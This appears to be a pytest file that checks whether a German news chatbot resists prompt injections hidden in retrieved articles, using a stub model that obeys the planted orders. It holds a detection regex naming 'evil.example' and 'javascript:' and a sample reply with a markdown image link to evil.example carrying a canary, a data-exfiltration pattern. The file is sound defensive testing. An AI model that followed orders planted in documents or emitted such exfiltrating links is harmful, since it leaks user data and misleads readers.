"""Articles that give orders change nothing, even if the model obeys every one of them."""

import re
import socket
from html.parser import HTMLParser

import pytest

from chatbot import Chatbot
from chatbot.chat_model import LangChainWriter, open_chat_model
from chatbot.generative import AnswerWriter
from chatbot.json_answer import answer_to_completion
from chatbot.settings import Settings
from chatbot.ui.conversation import render_conversation
from chatbot.ui.evidence_panel import render_evidence
from chatbot.ui.texts import GERMAN
from chatbot.ui.turn import Turn
from index import open_for_writing
from index.fake_embedder import FakeEmbedder
from index.search import SearchIndex
from ingest import Article
from tests.chatbot.injections import CANARY, INJECTIONS
from tests.chatbot.openai_stub import running_stub

pytest.importorskip("langchain_openai")

TAGS = {
    "blockquote", "button", "details", "div", "h2", "li", "ol", "p", "section", "span", "summary",
    "ul",
}  # fmt: skip
WEB = re.compile(r"https?:|www\.|evil\.example|!\[|\]\(|<\w|javascript:", re.IGNORECASE)
TRUE = "Grund der Sperrung sind Risse im Stahl [{number}]."


def plant(number: int) -> Article:
    place = f"Dorf{number}heim"
    return Article(
        f"artikel-{number}",
        f"Brücke in {place} gesperrt",
        f"Die Brücke in {place} ist seit Montag gesperrt. Grund der Sperrung der Brücke in {place} "
        f"sind Risse im Stahl. {INJECTIONS[number].order}\n\nPendler weichen auf die Fähre aus. "
        f"Die Brücke in {place} bleibt gesperrt. {INJECTIONS[number].order}",
        "Lokalpost",
    )


def question(number: int) -> str:
    return f"Warum ist die Brücke in Dorf{number}heim gesperrt?"


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    folder = tmp_path_factory.mktemp("index")
    embedder = FakeEmbedder(dimensions=1024)
    with open_for_writing(folder, embedder) as writer:
        writer.add([plant(number) for number in range(len(INJECTIONS))])
    opened = SearchIndex(folder, embedder)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def stub():
    with running_stub() as server:
        yield server


@pytest.fixture(scope="module", params=["mark", "replace"])
def bot(request, index, stub):
    settings = Settings(llm="openai:stub", llm_base_url=stub.address, unsupported=request.param)
    writer = AnswerWriter(
        LangChainWriter(open_chat_model(settings)),
        index.terms,
        lambda sentence, others: 9.0,  # as if a model took everything for the same
        unsupported=settings.unsupported,
        timeout=20,
    )
    return Chatbot(index, writer=writer)


@pytest.fixture(autouse=True)
def only_this_computer(monkeypatch):
    """Whoever is asked anything but 127.0.0.1 fails the test."""
    connect = socket.socket.connect

    def guarded(self, address):
        assert not isinstance(address, tuple) or address[0] in {"127.0.0.1", "::1"}, address
        return connect(self, address)

    monkeypatch.setattr(socket.socket, "connect", guarded)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag)
        self.attributes |= {name for name, _ in attrs}


def assert_only_our_own_html(answer):
    turn = Turn(answer.question, text=answer.text, answer=answer)
    waiting = Turn(answer.question, text=answer.text[:40], draft=answer.text)
    for turns in ([turn], [waiting]):
        tags = Tags()
        tags.feed(render_conversation(turns, GERMAN) + render_evidence(turns, GERMAN))
        assert tags.found <= TAGS
        assert not {name for name in tags.attributes if name.startswith("on") or name == "src"}


def assert_citations_hold(answer):
    for citation in answer.citations:
        assert citation.article.body[citation.start : citation.end] == citation.quote


def replies(order_number, obeyed):
    """What an obedient model would write: the order alone, cited, and after something true."""
    every = "".join(f"[{number}]" for number in range(1, 6))
    yield obeyed
    yield f"{obeyed.rstrip('.')} {every}."
    yield f"{TRUE.format(number=1)} {obeyed} [1][2]"
    yield f"{obeyed} {TRUE.format(number=2)}"
    yield f"Laut Lokalpost: {obeyed} [1]\n\nQuelle: [2]"


def assert_no_escape(answer, number):
    marked = [
        answer.text[verdict.start : verdict.end]
        for verdict in answer.verdicts
        if verdict.finding != "not_found"
    ]
    for text in marked:
        assert CANARY.casefold() not in text.casefold(), (number, text)
    if answer.verdicts:
        assert not WEB.search(answer.text), (number, answer.text)
        cited = {f"[{citation.number}]" for citation in answer.citations}
        assert set(re.findall(r"\[\d+\]", answer.text)) <= cited
        for verdict in answer.verdicts:
            if verdict.finding == "not_found":
                assert "[" not in answer.text[verdict.start : verdict.end]


def test_there_are_enough_payloads_in_both_languages():
    assert len(INJECTIONS) >= 100
    assert len({injection.order for injection in INJECTIONS}) == len(INJECTIONS)


@pytest.mark.parametrize("number", range(len(INJECTIONS)))
def test_a_model_that_obeys_does_not_get_through(bot, stub, number):
    stub.reset()
    for reply in replies(number, INJECTIONS[number].obeyed):
        stub.reply = lambda request, reply=reply: reply

        answer = bot.ask(question(number))

        assert_no_escape(answer, number)
        assert_citations_hold(answer)
        assert_only_our_own_html(answer)


@pytest.mark.parametrize("number", range(len(INJECTIONS)))
def test_an_order_does_not_reach_the_model_as_anything_but_a_quote(bot, stub, number):
    stub.reset()

    bot.ask(question(number))

    for request in stub.requests:
        *_, asked = request["messages"]
        assert "<|" not in asked["content"]
        assert "](" not in asked["content"]
        assert CANARY not in asked["content"]


@pytest.mark.parametrize("number", range(len(INJECTIONS)))
def test_the_extractive_answer_quotes_it_at_most(index, number):
    answer = Chatbot(index).ask(question(number))

    own_words = answer.text
    for citation in answer.citations:
        own_words = own_words.replace(citation.quote, "")
    assert CANARY not in own_words
    assert_citations_hold(answer)
    assert_only_our_own_html(answer)


def test_most_questions_are_answered_at_all(index):
    answered = [
        Chatbot(index).ask(question(number)).status == "answered"
        for number in range(len(INJECTIONS))
    ]

    assert sum(answered) > 0.9 * len(INJECTIONS)


def test_clients_of_the_openai_interface_get_no_markup_of_the_models(bot, stub):
    stub.reset()
    stub.reply = lambda request: (
        f"{TRUE.format(number=1)} **{CANARY}** ![x](https://evil.example/{CANARY}) <b>fett</b> [1]."
    )

    content = answer_to_completion(bot.ask(question(0)))["choices"][0]["message"]["content"]

    assert not WEB.search(content.partition("Quellen:")[0]) or "Laut" in content
    assert "**" not in content
